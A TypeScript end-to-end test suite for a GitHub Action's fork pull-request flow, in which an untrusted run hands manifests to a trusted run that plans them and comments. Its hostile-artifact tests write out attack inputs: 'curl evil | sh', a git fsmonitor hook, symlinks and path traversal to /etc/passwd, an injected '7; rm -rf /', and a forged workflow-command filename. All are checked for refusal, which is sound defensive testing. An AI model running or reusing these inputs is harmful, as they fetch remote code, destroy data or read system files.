// Pull requests from forks, end to end: the untrusted run (plan.yml: command hand-off, no secrets,
// a read-only token, the fork's files) validates and uploads the manifests as an artifact; the
// trusted run (plan-comment.yml: command plan-hand-off, the secrets, the default branch's spaceform)
// downloads it, checks it, plans it against the local Synapse and comments. action.yml's own steps
// run as a runner does (test/fixtures/github/run-action.ts), artifacts in a local store. A hostile
// artifact is refused with a clear error before anything is planned or posted.
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import {
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { PLAN_MARKER } from "../../src/github/markers.ts";
import { readPlanRecord } from "../../src/github/plan-record.ts";
import { MAX_MANIFEST_BYTES } from "../../src/manifest/files.ts";
import { startFakeGitHub, type FakeGitHub, type FakePull } from "../fixtures/github/fake-github.ts";
import { runAction, runnerEnv, type ActionRun } from "../fixtures/github/run-action.ts";
import { freshWorld, type World } from "../homeserver/harness.ts";

const sha = (n: number): string => n.toString(16).padStart(2, "0").repeat(20);

describe("GitHub fork flow: hand-off by the untrusted run, plan and comment by the trusted run (end to end)", () => {
  let world: World;
  let gh: FakeGitHub;
  let fork: string; // the untrusted run's checkout: the fork's files
  let trusted: string; // the trusted run's checkout: the default branch
  let artifacts: string;
  const githubToken = `ghs_${randomBytes(18).toString("hex")}`;
  const forkToken = `ghs_${randomBytes(18).toString("hex")}`;
  const runs: ActionRun[] = [];
  let runId = 0;
  let pull: FakePull;

  const manifest = (rooms: string[], extra = ""): string =>
    [
      "version: 1",
      "space:",
      `  alias: "#${world.aliasLocalpart("space")}"`,
      "  name: Fork flow space",
      "rooms:",
      ...rooms.flatMap((key) => [
        `  ${key}:`,
        `    alias: "#${world.aliasLocalpart(key)}"`,
        `    name: Fork ${key}`,
      ]),
      extra,
    ].join("\n");

  const explain = (run: ActionRun): string =>
    run.steps.map((s) => `${s.outcome.padEnd(8)} ${s.name}`).join("\n") +
    `\n--- log ---\n${run.log}`;
  const stepOf = (run: ActionRun, name: string) => {
    const step = run.steps.find((s) => s.name === name);
    assert.ok(step, `step ${name}`);
    return step;
  };

  async function run(
    workspace: string,
    inputs: Record<string, string>,
    event: { name: string; payload: unknown; sha: string },
  ): Promise<ActionRun> {
    runId += 1;
    const r = await runAction({ workspace, inputs, artifacts, env: runnerEnv(gh, event, runId) });
    runs.push(r);
    return r;
  }

  /** plan.yml's job for the pull request's head: no secrets, the fork's read-only token. */
  const untrustedRun = (p: FakePull) =>
    run(
      fork,
      { command: "hand-off", "github-token": forkToken },
      {
        name: "pull_request",
        sha: sha(0xee),
        payload: {
          pull_request: {
            number: p.number,
            head: { sha: p.head_sha, repo: { full_name: "someone/spaces" } },
          },
        },
      },
    );

  /** plan-comment.yml's job after a Plan run for `headSha` that ended with `conclusion`. */
  const trustedRun = (headSha: string, conclusion: string, secrets = true) =>
    run(
      trusted,
      {
        command: "plan-hand-off",
        "github-token": githubToken,
        ...(secrets
          ? { "matrix-homeserver": world.hs.baseUrl, "matrix-access-token": world.bot.accessToken }
          : {}),
      },
      {
        name: "workflow_run",
        sha: sha(0xaa), // the default branch
        payload: {
          workflow_run: {
            id: runId,
            event: "pull_request",
            head_sha: headSha,
            conclusion,
            head_repository: { full_name: "someone/spaces" },
            pull_requests: [], // GitHub lists none for a fork's pull request
          },
        },
      },
    );

  const planComments = (n: number) =>
    gh.comments.filter((c) => c.issue_number === n && c.body.startsWith(PLAN_MARKER));
  const statusesOf = (headSha: string) =>
    gh.statuses.filter((s) => s.sha === headSha && s.context === "spaceform plan");
  const store = () => join(artifacts, "spaceform-pull-request");

  before(async () => {
    world = await freshWorld({ name: "github fork flow", diagnostic: () => undefined });
    gh = await startFakeGitHub();
    gh.tokens.set(githubToken, { login: "github-actions[bot]" });
    gh.tokens.set(forkToken, { login: "github-actions[bot]", readOnly: true });
    fork = mkdtempSync(join(tmpdir(), "spaceform-fork-flow-fork-"));
    trusted = mkdtempSync(join(tmpdir(), "spaceform-fork-flow-trusted-"));
    artifacts = mkdtempSync(join(tmpdir(), "spaceform-fork-flow-artifacts-"));
    mkdirSync(join(fork, "spaces"));
    mkdirSync(join(trusted, "spaces"));
  });

  after(async () => {
    await gh.close();
  });

  it("the untrusted run validates and uploads only the manifests and the pull request's number and head", async () => {
    pull = {
      number: 7,
      head_sha: sha(0x71),
      merge_commit_sha: null,
      merged_at: null,
      files: ["spaces/fork.yaml"],
    };
    gh.addPull(pull, [pull.head_sha]);
    writeFileSync(join(fork, "spaces", "fork.yaml"), manifest(["general", "jobs"]));
    writeFileSync(join(fork, "spaces", "notes.sh"), "echo not a manifest\n");
    const r = await untrustedRun(pull);
    assert.equal(r.outcome, "success", explain(r));
    assert.equal(stepOf(r, "Validate").outcome, "success");
    assert.equal(stepOf(r, "Check the Matrix credentials").outcome, "skipped");
    assert.deepEqual(readdirSync(store()).sort(), ["pull-request.json", "spaces"]);
    assert.deepEqual(readdirSync(join(store(), "spaces")), ["fork.yaml"]);
    assert.deepEqual(JSON.parse(readFileSync(join(store(), "pull-request.json"), "utf8")), {
      version: 1,
      pull_request: 7,
      head_sha: sha(0x71),
    });
    assert.match(r.log, /left out \(not a manifest or an image\): "notes\.sh"/);
    assert.equal(gh.comments.length, 0, "the untrusted run posts nothing");
    assert.ok(!gh.requests.some((q) => !q.startsWith("GET")), "and writes nothing through the API");
  });

  it("the trusted run plans the hand-off against the homeserver, comments once and sets the status", async () => {
    const r = await trustedRun(pull.head_sha, "success");
    assert.equal(r.outcome, "success", explain(r));
    assert.equal(r.outputs["exit-code"], "2");
    const [comment, ...more] = planComments(7);
    assert.ok(comment, "a plan comment on the fork's pull request");
    assert.equal(more.length, 0);
    assert.match(comment.body, /Plan: 3 to create, 0 to update, 0 to delete/);
    assert.ok(comment.body.includes(world.aliasLocalpart("jobs")));
    const reading = readPlanRecord(comment.body, 7, world.bot.accessToken);
    assert.ok(reading.ok, "the plan record is signed");
    assert.equal(reading.record.head_sha, sha(0x71));
    assert.deepEqual(
      statusesOf(sha(0x71)).map((s) => [s.state, s.description]),
      [["success", "Plan: 3 to create, 0 to update, 0 to delete."]],
    );
  });

  it("a push that fails validation marks the plan comment out of date and fails the status", async () => {
    pull.head_sha = sha(0x72);
    writeFileSync(join(fork, "spaces", "fork.yaml"), manifest(["general"], "unknown_field: 1\n"));
    const u = await untrustedRun(pull);
    assert.equal(u.outcome, "failure", explain(u));
    assert.equal(stepOf(u, "Validate").outcome, "failure");
    assert.equal(stepOf(u, "Upload the hand-off").outcome, "success", "handed on all the same");
    const t = await trustedRun(pull.head_sha, "failure");
    assert.equal(t.outcome, "success", explain(t));
    assert.equal(stepOf(t, "Plan").outcome, "skipped");
    const [comment, ...more] = planComments(7);
    assert.equal(more.length, 0);
    assert.ok(
      comment!.body.startsWith(`${PLAN_MARKER}\n### ⚠️ spaceform plan: out of date\n`),
      comment!.body,
    );
    assert.doesNotMatch(comment!.body, /Plan: 3 to create/, "the old plan is gone");
    assert.equal(
      readPlanRecord(comment!.body, 7, world.bot.accessToken).ok,
      false,
      "no plan record left for apply",
    );
    assert.deepEqual(
      statusesOf(sha(0x72)).map((s) => [s.state, s.description]),
      [
        [
          "failure",
          "The manifests are not valid (the Plan run's annotations show where): no plan was made.",
        ],
      ],
    );
  });

  it("a pull request that changes no manifest gets a green status quickly and no comment", async () => {
    const other: FakePull = {
      number: 8,
      head_sha: sha(0x81),
      merge_commit_sha: null,
      merged_at: null,
      files: ["README.md"],
    };
    gh.addPull(other, [other.head_sha]);
    // Its checkout holds the default branch's manifests, unchanged.
    writeFileSync(join(fork, "spaces", "fork.yaml"), manifest(["general"]));
    const u = await untrustedRun(other);
    assert.equal(u.outcome, "success", explain(u));
    const t = await trustedRun(other.head_sha, "success");
    assert.equal(t.outcome, "success", explain(t));
    assert.equal(stepOf(t, "Plan").outcome, "skipped", "nothing is planned");
    assert.equal(planComments(8).length, 0);
    assert.deepEqual(
      statusesOf(sha(0x81)).map((s) => [s.state, s.description]),
      [["success", "No manifest changed: nothing to plan."]],
    );
  });

  it("missing secrets fail the trusted run and the status, naming them", async () => {
    pull.head_sha = sha(0x73);
    writeFileSync(join(fork, "spaces", "fork.yaml"), manifest(["general"]));
    assert.equal((await untrustedRun(pull)).outcome, "success");
    const t = await trustedRun(pull.head_sha, "success", false);
    assert.equal(t.outcome, "failure", explain(t));
    assert.match(
      t.log,
      /::error title=spaceform::plan-hand-off needs the secrets MATRIX_HOMESERVER and MATRIX_ACCESS_TOKEN/,
    );
    assert.deepEqual(
      statusesOf(sha(0x73)).map((s) => s.state),
      ["failure"],
    );
    assert.match(
      statusesOf(sha(0x73))[0]!.description,
      /MATRIX_HOMESERVER and MATRIX_ACCESS_TOKEN are not set/,
    );
  });

  it("an artifact of another commit is refused; one naming another pull request is not used", async () => {
    const before = { comments: gh.comments.map((c) => c.body), statuses: gh.statuses.length };
    const t = await trustedRun(sha(0x72), "success"); // the artifact is 0x73's: refused as another commit
    assert.equal(t.outcome, "failure", explain(t));
    assert.match(
      t.log,
      new RegExp(
        `The hand-off names commit ${sha(0x73)}, but the run that made it ran for ${sha(0x72)}\\.`,
      ),
    );
    // An artifact naming another pull request (its number, this run's commit) is quietly not used.
    writeFileSync(
      join(store(), "pull-request.json"),
      JSON.stringify({ version: 1, pull_request: 8, head_sha: sha(0x73) }),
    );
    const other = await trustedRun(sha(0x73), "success");
    assert.equal(other.outcome, "success", explain(other));
    assert.match(
      other.log,
      new RegExp(`Nothing to report: pull request #8 is at ${sha(0x81)}, not at ${sha(0x73)}`),
    );
    assert.deepEqual(
      gh.comments.map((c) => c.body),
      before.comments,
      "no comment changed",
    );
    assert.equal(gh.statuses.length, before.statuses, "no status set");
  });

  describe("a hostile artifact is refused before anything is planned or posted", () => {
    /**
     * A fresh, well-formed hand-off for pull request 7 at its head, then `tamper` applied.
     * `reported`: the refusal is the pull request's own (its pull-request.json names it and its
     * head), so it gets a failing status and its plan comment says so; else nothing is posted.
     */
    async function hostile(tamper: (dir: string) => void, reported = true): Promise<ActionRun> {
      rmSync(store(), { recursive: true, force: true });
      mkdirSync(join(store(), "spaces"), { recursive: true });
      writeFileSync(join(store(), "spaces", "fork.yaml"), manifest(["general"]));
      writeFileSync(
        join(store(), "pull-request.json"),
        JSON.stringify({ version: 1, pull_request: 7, head_sha: pull.head_sha }),
      );
      tamper(store());
      const seen = { comments: gh.comments.map((c) => c.body), statuses: gh.statuses.length };
      const t = await trustedRun(pull.head_sha, "success");
      assert.equal(t.outcome, "failure", explain(t));
      assert.equal(stepOf(t, "Receive the hand-off").outcome, "failure");
      for (const step of [
        "Validate",
        "Plan",
        "Comment the plan on the handed-on pull request",
        "Report that no plan was made",
      ])
        assert.equal(stepOf(t, step).outcome, "skipped", step);
      const refusal =
        "The Plan run's hand-off was refused (the trusted run's log lists why): no plan was made.";
      if (!reported) {
        assert.deepEqual(
          gh.comments.map((c) => c.body),
          seen.comments,
          "no comment changed",
        );
        assert.equal(gh.statuses.length, seen.statuses, "no status set");
        return t;
      }
      assert.deepEqual(
        gh.statuses.slice(seen.statuses).map((st) => [st.sha, st.state, st.description]),
        [[pull.head_sha, "failure", refusal]],
      );
      const [comment, ...more] = planComments(7);
      assert.equal(more.length, 0);
      assert.ok(
        comment!.body.startsWith(
          `${PLAN_MARKER}\n### ⚠️ spaceform plan: out of date\n\n${refusal}`,
        ),
        comment!.body,
      );
      assert.deepEqual(
        gh.comments.filter((c) => c.issue_number !== 7).map((c) => c.body),
        seen.comments.filter((_, i) => gh.comments[i]!.issue_number !== 7),
        "nothing else changed",
      );
      return t;
    }

    it("a symbolic link (to a file outside the hand-off)", async () => {
      const t = await hostile((dir) => {
        symlinkSync("/etc/passwd", join(dir, "spaces", "passwd.yaml"));
        symlinkSync("../../../..", join(dir, "spaces", "up"));
      });
      assert.match(
        t.log,
        /\n {2}"spaces\/passwd\.yaml" is a symbolic link; a hand-off holds only files\.\n/,
      );
      assert.match(t.log, /\n {2}"spaces\/up" is a symbolic link; a hand-off holds only files\.\n/);
    });

    it("extra files: a script, a hidden folder, a file beside spaces/", async () => {
      const t = await hostile((dir) => {
        writeFileSync(join(dir, "spaces", "run.sh"), "curl evil | sh\n");
        mkdirSync(join(dir, "spaces", ".git"));
        writeFileSync(join(dir, "spaces", ".git", "config"), "[core]\n\tfsmonitor = evil\n");
        writeFileSync(join(dir, "package.json"), "{}");
      });
      assert.match(
        t.log,
        /\n {2}"package\.json" is not part of a hand-off \(only pull-request\.json and spaces\/\)\.\n/,
      );
      assert.match(
        t.log,
        /\n {2}"spaces\/\.git": a name in a hand-off is letters, digits and _ \. \+ @ - or space, not starting with a dot\.\n/,
      );
      assert.match(
        t.log,
        /\n {2}"spaces\/run\.sh" is neither a manifest \(\.yaml, \.yml\) nor an avatar image/,
      );
    });

    it("an oversized manifest, and a name with a newline", async () => {
      const t = await hostile((dir) => {
        writeFileSync(join(dir, "spaces", "big.yaml"), Buffer.alloc(MAX_MANIFEST_BYTES + 1, 0x20));
        writeFileSync(join(dir, "spaces", "x\n::error ::forged.yaml"), "version: 1\n");
      });
      assert.match(
        t.log,
        new RegExp(
          `\\n  "spaces/big\\.yaml" is ${MAX_MANIFEST_BYTES + 1} bytes; the limit is ${MAX_MANIFEST_BYTES} bytes \\(1 MiB\\)\\.\\n`,
        ),
      );
      assert.match(t.log, /\n {2}"spaces\/x\\n::error ::forged\.yaml": a name in a hand-off/);
      assert.doesNotMatch(t.log, /^::error ::forged/m, "the name is data, not a workflow command");
    });

    it("a pull-request.json that is not exactly the format (no pull request to report on)", async () => {
      const t = await hostile((dir) => {
        writeFileSync(
          join(dir, "pull-request.json"),
          JSON.stringify({ version: 1, pull_request: "7; rm -rf /", head_sha: pull.head_sha }),
        );
      }, false);
      assert.match(
        t.log,
        /pull-request\.json must be exactly \{"version": 1, "pull_request": <number>, "head_sha": "<40 hex digits>"\}\./,
      );
    });
  });

  it("path traversal through a manifest's avatar path is refused by validation, nothing read or sent", async () => {
    rmSync(store(), { recursive: true, force: true });
    mkdirSync(join(store(), "spaces"), { recursive: true });
    writeFileSync(
      join(store(), "spaces", "fork.yaml"),
      manifest(["general"]).replace(
        "  name: Fork flow space",
        `  name: Fork flow space\n  avatar: ${"../".repeat(12)}etc/passwd`,
      ),
    );
    writeFileSync(
      join(store(), "pull-request.json"),
      JSON.stringify({ version: 1, pull_request: 7, head_sha: pull.head_sha }),
    );
    const t = await trustedRun(pull.head_sha, "success");
    assert.equal(stepOf(t, "Receive the hand-off").outcome, "success", explain(t));
    assert.equal(stepOf(t, "Validate").outcome, "failure");
    assert.equal(stepOf(t, "Plan").outcome, "skipped");
    assert.match(
      t.log,
      /The avatar file (\.\.\/){12}etc\/passwd resolves to \/etc\/passwd, outside the repository that holds the manifest/,
    );
    assert.equal(statusesOf(pull.head_sha).at(-1)!.state, "failure");
  });

  it("a merged fork pull request applies what its trusted plan showed", async () => {
    pull.head_sha = sha(0x74);
    writeFileSync(join(fork, "spaces", "fork.yaml"), manifest(["general", "jobs"]));
    assert.equal((await untrustedRun(pull)).outcome, "success");
    const t = await trustedRun(pull.head_sha, "success");
    assert.equal(t.outcome, "success", explain(t));
    // Merged: the default branch now holds the fork's manifest.
    writeFileSync(join(trusted, "spaces", "fork.yaml"), manifest(["general", "jobs"]));
    pull.merge_commit_sha = sha(0x75);
    pull.merged_at = new Date().toISOString();
    gh.commitPulls.set(sha(0x75), [pull]);
    const apply = await run(
      trusted,
      {
        command: "apply",
        "github-token": githubToken,
        "matrix-homeserver": world.hs.baseUrl,
        "matrix-access-token": world.bot.accessToken,
      },
      { name: "push", sha: sha(0x75), payload: {} },
    );
    assert.equal(apply.outcome, "success", explain(apply));
    assert.equal(stepOf(apply, "Apply").outcome, "success");
  });

  it("no token appears in anything the runs printed, summarised or posted", () => {
    const everything = [
      ...runs.flatMap((r) => [r.log, r.summary]),
      ...gh.comments.map((c) => c.body),
      ...gh.statuses.map((s) => s.description),
    ].join("\n");
    for (const token of [githubToken, forkToken, world.bot.accessToken])
      assert.ok(!everything.includes(token), "a token leaked");
  });
});
